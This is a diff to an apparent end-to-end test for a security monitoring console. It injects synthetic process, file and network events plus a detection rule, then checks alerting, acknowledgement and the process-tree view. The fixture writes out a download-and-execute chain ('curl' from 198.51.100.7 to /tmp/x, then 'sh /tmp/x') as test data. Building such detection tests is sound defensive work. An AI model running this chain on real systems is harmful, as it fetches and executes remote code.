@@ -282,9 +282,105 @@ step('audit log lists the changes and the chain verifies', async () => {
 step('alerts and incidents lists render (empty for now)', async () => {
   await page.getByRole('link', { name: 'Alerts', exact: true }).click();
   await page.getByText('No alerts yet').waitFor();
-  await shot('alerts');
   await page.getByRole('link', { name: 'Incidents', exact: true }).click();
   await page.getByText('No incidents yet').waitFor();
+});
+
+// An agent's process events: sshd -> bash -> the marker command -> sh, plus the marker's file and
+// network activity. Entity ids as the agent makes them (32 hex digits).
+const ent = (n) => n.toString(16).padStart(32, 'c');
+const E = [ent(1), ent(2), ent(3), ent(4)];
+function procEvent(i, name, exe, cmd, parent, ancestry, dt) {
+  return {
+    '@timestamp': new Date(Date.now() - 60000 + dt * 1000).toISOString(),
+    agent: { id: 'a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0' },
+    host: { name: 'endpoint-7' },
+    event: { category: 'process', type: 'start', action: 'exec' },
+    process: { entity_id: E[i], pid: 1000 + i, name, executable: exe, command_line: cmd,
+      ...(parent ? { parent: { entity_id: parent, pid: 1000 + i - 1 } } : {}), ancestry },
+    user: { name: 'alice', id: '1000' },
+  };
+}
+const AGENT_EVENTS = [
+  procEvent(0, 'sshd', '/usr/sbin/sshd', 'sshd: alice [priv]', null, [], 0),
+  procEvent(1, 'bash', '/usr/bin/bash', '-bash', E[0], [E[0]], 1),
+  procEvent(2, 'curl', '/usr/bin/curl', 'curl -s http://198.51.100.7/vigil-console-marker -o /tmp/x', E[1], [E[1], E[0]], 2),
+  procEvent(3, 'sh', '/usr/bin/sh', 'sh /tmp/x', E[2], [E[2], E[1], E[0]], 3),
+  { '@timestamp': new Date(Date.now() - 57000).toISOString(), agent: { id: 'a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0' }, host: { name: 'endpoint-7' },
+    event: { category: 'file', type: 'creation', action: 'create' }, file: { path: '/tmp/x' }, process: { entity_id: E[2], pid: 1002, name: 'curl' } },
+  { '@timestamp': new Date(Date.now() - 57500).toISOString(), agent: { id: 'a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0' }, host: { name: 'endpoint-7' },
+    event: { category: 'network', type: 'start', action: 'connection_attempted' }, network: { transport: 'tcp' },
+    source: { ip: '10.1.2.3', port: 51000 }, destination: { ip: '198.51.100.7', port: 80 }, process: { entity_id: E[2], pid: 1002, name: 'curl' } },
+];
+
+step('an injected event raises an alert that appears live in the queue; bulk acknowledge', async () => {
+  const { cookie, csrf } = await apiLogin(stack.api, ADMIN.user, ADMIN.pass);
+  const hdr = { Cookie: cookie, 'X-CSRF-Token': csrf };
+  const rule = [
+    'title: Console test download marker', 'id: 5b0c1e6e-3f7a-4c55-9a0d-8f1d2c3b4a51', 'status: test', 'level: high',
+    'tags: [attack.execution, attack.t1105]',
+    'logsource: {product: linux, category: process_creation}',
+    'detection:', '  sel:', '    CommandLine|contains: vigil-console-marker', '  condition: sel', ''].join('\n');
+  const rr = await request(stack.api, 'POST', '/api/v1/rules', { body: rule, headers: { ...hdr, 'Content-Type': 'application/yaml' } });
+  assert.equal(rr.status, 201, rr.text);
+  for (let i = 0; i < 100; i++) {
+    const l = await request(stack.api, 'GET', '/api/v1/rules', { headers: hdr });
+    if (!l.json.engine.pending && l.json.rules.every((x) => x.loaded)) break;
+    await new Promise((res) => setTimeout(res, 100));
+  }
+  await page.getByRole('link', { name: 'Alerts', exact: true }).click();
+  await page.getByText('No alerts yet').waitFor();
+  await page.getByRole('status', { name: 'live updates: live' }).waitFor();
+  const t = await request(stack.api, 'POST', '/api/v1/tokens', {
+    body: JSON.stringify({ name: 'agent-like', role: 'ingest', tenant: 'default' }), headers: { ...hdr, 'Content-Type': 'application/json' } });
+  const r = await request(stack.api, 'POST', '/api/v1/events', {
+    body: AGENT_EVENTS.map((e) => JSON.stringify(e)).join('\n') + '\n',
+    headers: { Authorization: `Bearer ${t.json.token}`, 'Content-Type': 'application/x-ndjson' },
+  });
+  assert.equal(r.json.accepted, AGENT_EVENTS.length, r.text);
+  // no reload: the row arrives over the stream, marked new
+  const table = page.getByRole('table', { name: 'Alerts' });
+  await table.getByRole('link', { name: 'Console test download marker' }).waitFor();
+  await table.locator('tr.fresh').first().waitFor();
+  await shot('alerts');
+  await page.getByRole('checkbox', { name: 'Select all' }).check();
+  await page.getByTestId('selected-count').filter({ hasText: '1 selected' }).waitFor();
+  await page.getByRole('button', { name: 'Acknowledge' }).click();
+  await page.getByTestId('selected-count').filter({ hasText: '0 selected' }).waitFor();
+  // the queue shows open alerts by default: the acknowledged one left it
+  await page.getByText('Nothing matches the filters').waitFor();
+  await page.getByLabel('Status').selectOption('all');
+  await page.waitForURL(/status=all/);
+  await table.getByRole('cell', { name: 'acknowledged' }).waitFor();
+  const a = await request(stack.api, 'GET', '/api/v1/alerts?status=acknowledged', { headers: hdr });
+  assert.equal(a.json.alerts.length, 1, a.text);
+});
+
+step('the alert page shows its event; the process tree renders around the agent process', async () => {
+  await page.getByRole('table', { name: 'Alerts' }).getByRole('link', { name: 'Console test download marker' }).click();
+  await page.getByRole('heading', { name: 'Console test download marker' }).waitFor();
+  await page.getByTestId('alert-status').filter({ hasText: 'acknowledged' }).waitFor();
+  await page.getByRole('button', { name: 'Close', exact: true }).click();
+  await page.getByTestId('alert-status').filter({ hasText: 'closed' }).waitFor();
+  await shot('alert');
+  await page.getByRole('link', { name: 'process tree' }).click();
+  await page.getByRole('heading', { name: 'Process tree' }).waitFor();
+  const tree = page.getByRole('tree', { name: 'Process tree' });
+  // ancestors, root first
+  const anc = tree.getByRole('list', { name: 'Ancestors' });
+  await anc.getByText('sshd', { exact: true }).waitFor();
+  await anc.getByText('bash', { exact: true }).waitFor();
+  // the process itself, opened, with its activity and its child
+  await tree.getByText('curl -s http://198.51.100.7/vigil-console-marker -o /tmp/x').waitFor();
+  const act = tree.getByRole('list', { name: 'Activity of pid 1002' });
+  await act.getByText('create /tmp/x').waitFor();
+  await act.getByText(/connection_attempted tcp 10\.1\.2\.3:51000 → 198\.51\.100\.7:80/).waitFor();
+  await tree.getByRole('button', { name: 'Expand sh (pid 1003)' }).click();
+  await tree.getByText('no child processes').waitFor();
+  await shot('process-tree');
+  // focus on the child: a deep link that keeps the whole chain
+  await page.goto(stack.base + `/process?entity=${E[3]}&at=${encodeURIComponent(new Date().toISOString())}`);
+  await tree.getByRole('list', { name: 'Ancestors' }).getByText('curl', { exact: true }).waitFor();
 });
 
 step('role-aware navigation for a tier1 analyst', async () => {
@@ -326,7 +422,7 @@ step('dark theme follows prefers-color-scheme and the toggle', async () => {
   const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
   assert.equal(bg, 'rgb(15, 18, 22)');
   await shot('overview-dark');
-  await page.goto(stack.base + '/search?range=24h');
+  await page.goto(stack.base + '/search?range=24h&q=' + encodeURIComponent('not host.name:endpoint-7'));
   await page.getByTestId('result-count').filter({ hasText: '12 matching events' }).waitFor();
   await shot('search-dark');
   // auto -> light overrides the dark preference
